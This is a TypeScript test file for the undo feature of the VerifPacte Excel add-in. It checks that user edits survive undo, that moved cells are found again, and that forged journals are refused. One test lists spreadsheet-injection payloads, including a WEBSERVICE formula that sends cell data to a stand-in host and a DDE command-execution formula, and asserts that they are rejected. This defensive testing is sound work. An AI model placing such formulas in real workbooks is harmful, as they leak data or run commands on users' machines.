/**
 * « Annuler » undoes VerifPacte only (SPEC §6), against the fake: the user's later edits (values,
 * formulas, justifications typed in the Commentaire column, notes) are kept and named; cells are
 * found again after rows are inserted or deleted and sheets renamed; a forged journal writes
 * nothing dangerous; a write interrupted half-way leaves a journal that undoes exactly what was done.
 */
import { Workbook } from "../../src/core/grid/model";
import { JOURNAL_SHEET } from "../../src/excel";
import { IDENTITY_KEY } from "../../src/excel/identity";
import { FakeWorkbook, fakeFromCore } from "../../src/fake-excel";
import { EURO_FORMAT, fillSheet } from "../helpers/sheet";
import { exampleFake, finding, reopen, serviceOver, userDifferences } from "./helpers";

const FILE = "Annuler.xlsx";

/** Budget: B values, C a formula per row, D comments; « Synthèse » reads Budget!C5. */
function workbook(): FakeWorkbook {
  const wb = new Workbook(FILE);
  fillSheet(wb.addSheet("Budget"), [
    ["Action", "Montant", "Total", "Commentaire"],
    ["A", { v: "1 000 €", fmt: EURO_FORMAT }, { f: "=B2*2" }, null],
    ["B", 5, { v: 5, fmt: "0.0" }, "déjà écrit"],
    ["C", 7, { f: "=B4" }, null],
    ["D", 8, 99, null],
  ]);
  fillSheet(wb.addSheet("Synthèse"), [["Total", { f: "=Budget!C5" }]]);
  return fakeFromCore(wb);
}

const fix = (cell: string, content: { value: number | string } | { formula: string }) =>
  finding(
    FILE,
    "Budget",
    cell,
    "value" in content
      ? { kind: "value", sheet: "Budget", cell, ...content }
      : { kind: "formula", sheet: "Budget", cell, ...content },
  );

const plan = () => [
  fix("B2", { value: 1000 }),
  fix("C3", { value: 6 }),
  fix("C4", { formula: "=B4*2" }),
  fix("C5", { formula: "=B5" }),
];

const value = (fake: FakeWorkbook, sheet: string, cell: string) => {
  const m = /^([A-Z])(\d+)$/.exec(cell) as RegExpExecArray;
  return fake.sheet(sheet)?.cell(Number(m[2]) - 1, m[1].charCodeAt(0) - 65);
};

async function applied(): Promise<{ fake: FakeWorkbook; original: FakeWorkbook }> {
  const fake = workbook();
  const original = reopen(fake);
  await serviceOver(fake).apply(plan());
  return { fake, original };
}

describe("les modifications faites depuis par l'utilisateur sont gardées et nommées", () => {
  it("une valeur et une formule retouchées depuis la correction restent ; le reste est annulé", async () => {
    const { fake, original } = await applied();
    fake.userEdit("Budget", "C3", 42);
    fake.userEdit("Budget", "C4", "=B4*3");
    const undo = await serviceOver(reopen(fake)).undo();
    expect(undo.message).toBe(
      "Corrections annulées : 2 cellules restaurées, 0 commentaire retiré. Feuille « Contrôles VerifPacte » supprimée. " +
        "Modifiées depuis la correction, laissées telles quelles : 'Budget'!C3, 'Budget'!C4.",
    );
    const reopened = reopen(fake);
    await serviceOver(reopened).undo();
    expect(value(reopened, "Budget", "C3")?.value).toBe(42);
    expect(value(reopened, "Budget", "C4")?.formula).toBe("=B4*3");
    expect(value(reopened, "Budget", "B2")).toEqual(value(original, "Budget", "B2"));
    expect(value(reopened, "Budget", "C5")).toEqual(value(original, "Budget", "C5"));
  });

  it("le texte que l'utilisateur a écrit après le commentaire VerifPacte, dans la colonne Commentaire, est gardé", async () => {
    const fake = await exampleFake("erreurs-plantees.xlsx");
    const original = reopen(fake);
    const service = serviceOver(fake);
    const analysis = await service.analyze();
    await service.apply(
      analysis.findings.filter((f) => f.fix !== null),
      analysis.findings.filter((f) => f.fix === null),
    );
    const sheet = fake.sheet("CALPAE exécution 2022");
    const written = sheet?.cell(7, 14)?.value as string;
    expect(written).toMatch(/^\[Contrôle 05\/03\/2026\] K8 : Solde non consommé/);
    fake.userEdit("CALPAE exécution 2022", "O8", `${written}\nJustification : versement après contrôle de service fait.`);
    const undo = await serviceOver(fake).undo();
    expect(undo.message).not.toContain("Modifiées depuis");
    expect(sheet?.cell(7, 14)?.value).toBe("Justification : versement après contrôle de service fait.");
    // Formula results compared as computed by one engine (the fake computes like an English Excel).
    original.recalculateAll();
    fake.recalculateAll();
    const differences = userDifferences(fake, original);
    expect(differences).toEqual([
      `CALPAE exécution 2022!O8 : {"value":"Justification : versement après contrôle de service fait."} ≠ (vide)`,
    ]);
  });

  it("une note complétée par l'utilisateur perd le texte de VerifPacte, garde le sien ; une note supprimée depuis est signalée", async () => {
    const fake = workbook();
    fake.sheet("Budget")?.notes.set("A3", "Note d'origine");
    const service = serviceOver(fake);
    await service.apply([], [finding(FILE, "Budget", "A3", null), finding(FILE, "Budget", "A4", null)]);
    const ours = fake.sheet("Budget")?.notes.get("A3") as string;
    expect(ours).toBe("Note d'origine\n[Contrôle 05/03/2026] Constat sur A3");
    fake.userSetNote("Budget", "A3", `${ours}\nRéponse : vu avec le service.`);
    fake.userSetNote("Budget", "A4", null);
    const undo = await service.undo();
    expect(fake.sheet("Budget")?.notes.get("A3")).toBe("Note d'origine\nRéponse : vu avec le service.");
    expect(undo.message).toContain("Modifiées depuis la correction, laissées telles quelles : 'Budget'!A4.");
  });
});

describe("les cellules sont retrouvées où elles sont maintenant", () => {
  it("après des lignes insérées au-dessus : les valeurs reviennent à leur nouvelle place ; une ancienne formule n'est pas remise dans une ligne déplacée", async () => {
    const { fake } = await applied();
    fake.userInsertRows("Budget", 1, 2);
    const undo = await serviceOver(reopen(fake)).undo();
    expect(undo.message).toBe(
      "Corrections annulées : 3 cellules restaurées, 0 commentaire retiré. Feuille « Contrôles VerifPacte » supprimée. " +
        "Lignes déplacées depuis la correction, ancienne formule à remettre à la main : 'Budget'!C6 (C4 lors de la correction : =B4).",
    );
    const reopened = reopen(fake);
    await serviceOver(reopened).undo();
    expect(value(reopened, "Budget", "B4")).toEqual({ value: "1 000 €", numberFormat: EURO_FORMAT });
    expect(value(reopened, "Budget", "C5")).toEqual({ value: 5, numberFormat: "0.0" });
    expect(value(reopened, "Budget", "C6")?.formula).toBe("=B6*2");
    expect(value(reopened, "Budget", "C7")).toEqual({ value: 99 });
    expect(value(reopened, "Budget", "B2")).toBeUndefined();
  });

  it("une ligne supprimée depuis est signalée comme introuvable, sans rien écrire ailleurs", async () => {
    const { fake } = await applied();
    fake.userDeleteRows("Budget", 2, 1);
    const undo = await serviceOver(fake).undo();
    expect(undo.message).toBe(
      "Corrections annulées : 2 cellules restaurées, 0 commentaire retiré. Feuille « Contrôles VerifPacte » supprimée. " +
        "Lignes déplacées depuis la correction, ancienne formule à remettre à la main : 'Budget'!C3 (C4 lors de la correction : =B4). " +
        "Introuvables, ligne ou feuille supprimée depuis (adresses lors de la correction) : 'Budget'!C3.",
    );
    // Row 3 is gone: the old row 4 (C3 now) keeps its correction, the old row 5 (C4 now) gets its 99 back.
    expect([
      value(fake, "Budget", "B2")?.value,
      value(fake, "Budget", "C3")?.formula,
      value(fake, "Budget", "C4")?.value,
    ]).toEqual(["1 000 €", "=B3*2", 99]);
  });

  it("une feuille renommée, et son ancien nom repris par une autre feuille : seule la feuille corrigée est rétablie", async () => {
    const { fake, original } = await applied();
    fake.userRenameSheet("Budget", "Budget 2024");
    await fake.run(async (ctx) => {
      const other = ctx.workbook.worksheets.add("Budget");
      other.getRange("A1:C5").values = Array.from({ length: 5 }, () => ["x", 1, 2]);
      await ctx.sync();
    });
    const impostor = reopen(fake).sheet("Budget");
    await serviceOver(fake).undo();
    expect(fake.sheet("Budget")?.id).toBe(impostor?.id);
    expect([...(fake.sheet("Budget")?.entries() ?? [])]).toEqual([...(impostor?.entries() ?? [])]);
    for (const cell of ["B2", "C3", "C4", "C5"])
      expect(value(fake, "Budget 2024", cell)).toEqual(value(original, "Budget", cell));
  });
});

describe("un journal falsifié n'écrit rien de dangereux", () => {
  const DANGEROUS = [
    '=WEBSERVICE("https://exemple.org/?q="&A1)',
    '=FILTERXML(WEBSERVICE("https://exemple.org"),"//a")',
    '=HYPERLINK("https://exemple.org","Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "='C:\\Users\\Public\\[piege.xlsx]Feuil1'!A1",
    "=[1]Feuil1!A1",
  ];

  /** Every formula of the workbook's user sheets. */
  const formulas = (fake: FakeWorkbook) =>
    fake.sheets
      .filter((s) => s.name !== JOURNAL_SHEET)
      .flatMap((s) => [...s.entries()].flatMap(([, c]) => (c.formula ? [c.formula] : [])));

  it("un journal reçu avec le classeur, sans l'identité de VerifPacte dans les paramètres du document, est ignoré", async () => {
    const { fake } = await applied();
    const received = reopen(fake);
    received.settings.clear();
    const journal = received.sheet(JOURNAL_SHEET);
    journal?.setCell(2, 7, { value: "formule" });
    journal?.setCell(2, 8, { value: DANGEROUS[0] });
    const before = reopen(received);
    const service = serviceOver(received);
    expect(await service.hasJournal()).toBe(false);
    const undo = await service.undo();
    expect(undo).toEqual({
      restored: 0,
      message:
        "Le journal de corrections trouvé dans ce classeur n'a pas été écrit par VerifPacte pour ce classeur " +
        "(classeur reçu d'ailleurs, journal copié ou d'une version précédente) : il est ignoré. Aucune modification n'a été faite.",
      complete: false,
    });
    expect(userDifferences(received, before)).toEqual([]);
  });

  it("un journal dont l'identité ne correspond pas à celle des paramètres du document est ignoré", async () => {
    const { fake } = await applied();
    const identity = JSON.parse(fake.settings.get(IDENTITY_KEY) as string);
    fake.settings.set(IDENTITY_KEY, JSON.stringify({ ...identity, journal: "0123456789ab" }));
    const before = reopen(fake);
    expect((await serviceOver(fake).undo()).message).toMatch(
      /^Le journal de corrections trouvé dans ce classeur n'a pas été écrit par VerifPacte/,
    );
    expect(userDifferences(fake, before)).toEqual([]);
  });

  it.each(DANGEROUS)("une ligne qui redonnerait %s est refusée et nommée ; rien de dangereux n'est écrit", async (formula) => {
    const { fake } = await applied();
    const journal = fake.sheet(JOURNAL_SHEET);
    // Row 3 of the journal: C3's correction, its « found » content replaced by the dangerous formula.
    journal?.setCell(3, 7, { value: "formule" });
    journal?.setCell(3, 8, { value: formula });
    const undo = await serviceOver(fake).undo();
    expect(undo.message).toMatch(/Lignes du journal refusées, car VerifPacte n'écrit pas ces contenus : ligne 4 \(/);
    expect(undo.restored).toBe(3);
    expect(formulas(fake).filter((f) => /WEBSERVICE|FILTERXML|HYPERLINK|\||\[/i.test(f))).toEqual([]);
    expect(value(fake, "Budget", "C3")?.value).toBe(6);
  });

  it("une ligne qui viserait une feuille ou une cellule par un autre repère que le sien est refusée", async () => {
    const { fake } = await applied();
    fake.sheet(JOURNAL_SHEET)?.setCell(2, 6, { value: "Piege" });
    const undo = await serviceOver(fake).undo();
    expect(undo.message).toContain("ligne 3 (repère étranger à ce journal)");
    expect(value(fake, "Budget", "B2")?.value).toBe(1000);
  });
});

describe("rien de partiel", () => {
  it("une écriture interrompue à mi-chemin (classeur fermé) laisse un journal qui annule exactement ce qui a été fait", async () => {
    const fake = workbook();
    const original = reopen(fake);
    const service = serviceOver(fake);
    await service.analyze();
    // Sync 4 writes, in order: the journal's identity in the settings, calculation suspended, the
    // journal rows, two repères (add, hide), then the cells block by block: it stops after B2's block.
    fake.interruption = { sync: 4, after: 8 };
    const two = [fix("B2", { value: 1000 }), fix("C5", { formula: "=B5" })];
    await expect(service.apply(two)).rejects.toThrow(/Excel a renvoyé une erreur \(GeneralException\)/);
    expect([value(fake, "Budget", "B2")?.value, value(fake, "Budget", "C5")?.value]).toEqual([1000, 99]);
    const undo = await serviceOver(reopen(fake)).undo();
    expect(undo.message).toBe("Corrections annulées : 1 cellule restaurée, 0 commentaire retiré.");
    const reopened = reopen(fake);
    await serviceOver(reopened).undo();
    expect(userDifferences(reopened, original)).toEqual([]);
  });

  it("un journal étranger trouvé au moment de corriger est remplacé, et l'utilisateur le sait", async () => {
    const fake = workbook();
    fake.addSheet(JOURNAL_SHEET).setCell(0, 0, { value: "ancien journal" });
    const result = await serviceOver(fake).apply(plan().slice(0, 1));
    expect(result.notice).toMatch(
      /^Le journal de corrections trouvé dans ce classeur n'avait pas été écrit par VerifPacte pour ce classeur : il a été remplacé/,
    );
    expect(fake.sheet(JOURNAL_SHEET)?.cell(0, 0)?.value).toBe("Journal des corrections VerifPacte");
    expect((await serviceOver(fake).undo()).restored).toBe(1);
  });

  it("la feuille « CONTRÔLES » de l'utilisateur reste après corriger et annuler ; seule celle de VerifPacte est supprimée", async () => {
    const fake = workbook();
    fake.addSheet("CONTRÔLES").setCell(0, 0, { value: "À moi" });
    const service = serviceOver(fake);
    await service.apply(plan());
    expect(fake.sheets.map((s) => s.name)).toContain("Contrôles VerifPacte");
    await service.undo();
    expect(fake.sheets.map((s) => s.name)).toEqual(["Budget", "Synthèse", "CONTRÔLES", JOURNAL_SHEET]);
    expect(fake.sheet("CONTRÔLES")?.cell(0, 0)?.value).toBe("À moi");
  });
});
